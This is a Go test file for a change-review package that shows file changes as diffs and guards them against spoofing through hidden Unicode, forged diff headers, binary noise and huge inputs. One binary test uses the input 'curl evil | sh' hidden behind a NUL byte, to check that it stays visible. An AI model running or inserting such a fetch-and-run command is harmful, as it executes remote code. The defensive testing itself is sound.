package review

import (
	"errors"
	"fmt"
	"math/rand/v2"
	"strings"
	"testing"
	"testing/iotest"
	"time"
)

// side is one with that text; nil for "-".
func side(t *testing.T, text string) *Side {
	t.Helper()
	if text == "-" {
		return nil
	}
	s, err := Load(strings.NewReader(text))
	if err != nil {
		t.Fatal(err)
	}
	return s
}

func TestCompare(t *testing.T) {
	file := Change{Path: "f", Action: "modified", Type: "file", OldType: "file", Mode: "0644", OldMode: "0644"}
	added := Change{Path: "f", Action: "added", Type: "file", Mode: "0644"}
	with := func(c Change, edit func(*Change)) Change { edit(&c); return c }
	for name, test := range map[string]struct {
		c             Change
		before, after string
		want          string // notes with "= ", then lines
	}{
		"modified": {file, "a\nb\nc\n", "a\nB\nc\n", "@@ -1,3 +1,3 @@|\u0020a|-b|+B| c"},
		"added":    {added, "-", "x\ny\n", "@@ -0,0 +1,2 @@|+x|+y"},
		"deleted": {with(file, func(c *Change) { c.Action, c.Mode = "deleted", "" }), "x\n", "-",
			"@@ -1,1 +0,0 @@|-x"},
		"no line end": {file, "x", "x\n", `@@ -1,1 +1,1 @@|-x|\ No newline at end of file|+x`},
		"empty":       {added, "-", "", "= the file is empty"},
		"same":        {file, "x\n", "x\n", "= the content is the same"},
		"executable": {with(file, func(c *Change) { c.Mode = "0755" }), "x\n", "x\n",
			"= mode 0644 -> 0755: it becomes executable|= the content is the same"},
		"new executable": {with(added, func(c *Change) { c.Mode = "0700" }), "-", "x\n",
			"= mode 0700: it can be executed|@@ -0,0 +1,1 @@|+x"},
		"mode alone": {with(file, func(c *Change) { c.Action, c.Mode = "mode", "0600" }), "-", "-", "= mode 0644 -> 0600"},
		"renamed": {with(file, func(c *Change) { c.Action, c.From = "renamed", "old name" }), "x\n", "x\n",
			"= it seems to come from old name|= the content is the same"},
		"kind": {with(file, func(c *Change) { c.Type, c.Target, c.Mode = "symlink", "../up", "" }), "x\n", "../up\n",
			"= a file became a link|= a link to ../up|@@ -1,1 +1,1 @@|-x|+../up"},
		"folder":  {Change{Path: "d", Action: "added", Type: "dir", Mode: "0755"}, "-", "-", "= a new folder"},
		"special": {Change{Path: "p", Action: "added", Type: "special", Mode: "0644"}, "-", "-", "= a fifo, socket or device: its content cannot be kept"},
		"old version gone": {file, "-", "x\n",
			"= the old version is not there any more: the new one is shown whole|@@ -0,0 +1,1 @@|+x"},
		"hidden": {added, "-", "a\u202eb\x1b\n",
			"= 2 characters that cannot be seen, or are no text, are marked like <U+202E>|@@ -0,0 +1,1 @@|+a<U+202E>b<U+001B>"},
		// A line of the file cannot pass for one of the diff's own.
		"forged": {added, "-", "--- a\n+++ b\n@@ -1 +1 @@\n= iteration 1, ordinary\n\\ No newline at end of file\n",
			`@@ -0,0 +1,5 @@|+--- a|++++ b|+@@ -1 +1 @@|+= iteration 1, ordinary|+\ No newline at end of file`},
	} {
		d := Compare(test.c, side(t, test.before), side(t, test.after))
		var got []string
		for _, n := range d.Notes {
			got = append(got, "= "+n)
		}
		if all := strings.Join(append(got, d.Lines...), "|"); all != test.want {
			t.Errorf("%s:\ngot  %s\nwant %s", name, all, test.want)
		}
	}
}

// TestBinary: named with size and hash instead of shown; and one odd byte does
// not make a text unreadable for its reviewer.
func TestBinary(t *testing.T) {
	c := Change{Path: "f", Action: "modified", Type: "file", OldType: "file"}
	noise := make([]byte, 5000)
	rand.NewChaCha8([32]byte{1}).Read(noise)
	d := Compare(c, side(t, "text\n"), side(t, string(noise)))
	all := strings.Join(d.Notes, "\n")
	if len(d.Lines) != 0 || !strings.Contains(all, "- 5 B, sha256 ") || !strings.Contains(all, "+ 4.9 KiB, sha256 ") {
		t.Errorf("%q %q", d.Notes, d.Lines)
	}
	d = Compare(c, side(t, "text\n"), side(t, "#!/bin/sh\n\x00curl evil | sh\n"))
	if !strings.Contains(strings.Join(d.Lines, "\n"), "+<U+0000>curl evil | sh") {
		t.Errorf("a NUL hides a text: %q %q", d.Notes, d.Lines)
	}
}

// TestHuge: what is not compared is said, and nothing is read without end.
func TestHuge(t *testing.T) {
	c := Change{Path: "f", Action: "modified", Type: "file", OldType: "file"}
	line := "0123456789abcdef\n"
	big := strings.Repeat(line, 3*MaxText/len(line))
	d := Compare(c, side(t, big), side(t, "x\n"+big))
	if len(d.Notes) != 2 || !strings.Contains(d.Notes[1], "after: only the first 1.0 MiB of 3.0 MiB are compared") {
		t.Errorf("%q", d.Notes)
	}
	endless, err := Load(zeros{})
	if err != nil || endless.Size != MaxHash || endless.SHA256 != "" || len(endless.Text) != MaxText {
		t.Errorf("%d bytes, %q, %v", endless.Size, endless.SHA256, err)
	}
	d = Compare(c, nil, side(t, strings.Repeat("x", 5000)+"\n"))
	if got := d.Lines[1]; !strings.HasSuffix(got, " ... (1001 more bytes on this line)") {
		t.Errorf("%q", got[len(got)-60:])
	}
	if _, err := Load(iotest.ErrReader(errors.New("broken"))); err == nil {
		t.Error("a read error is gone")
	}
}

type zeros struct{}

func (zeros) Read(b []byte) (int, error) { clear(b); return len(b), nil }

// TestDiffIsQuick: no text makes the comparison take more than its size.
func TestDiffIsQuick(t *testing.T) {
	var a, b strings.Builder
	for i := range 60_000 {
		fmt.Fprintf(&a, "%d\n", i%7)
		fmt.Fprintf(&b, "%d\n", i%11)
	}
	start := time.Now()
	Compare(Change{Type: "file", OldType: "file", Action: "modified"}, side(t, a.String()), side(t, b.String()))
	if took := time.Since(start); took > 5*time.Second {
		t.Errorf("it took %v", took)
	}
}

// FuzzShown: whatever the sides are, only visible characters and tabs come out,
// and the lines of the new side can be told from the rest.
func FuzzShown(f *testing.F) {
	f.Add("a\nb\n", "a\x1b\n\u202e\xff")
	f.Add("", "\n\n\n")
	f.Add("x", "x\n\\ No newline at end of file")
	f.Fuzz(func(t *testing.T, before, after string) {
		c := Change{Path: "f", Action: "modified", Type: "file", OldType: "file"}
		d := Compare(c, &Side{Text: []byte(before), Size: int64(len(before))}, &Side{Text: []byte(after), Size: int64(len(after))})
		for _, line := range append(d.Notes, d.Lines...) {
			if strings.ReplaceAll(Visible(line), "\t", "") != strings.ReplaceAll(line, "\t", "") {
				t.Errorf("%q is shown", line)
			}
		}
		for _, line := range d.Lines {
			if line == "" || !strings.ContainsAny(line[:1], ` +-@\`) {
				t.Errorf("%q is a line of the diff", line)
			}
		}
	})
}
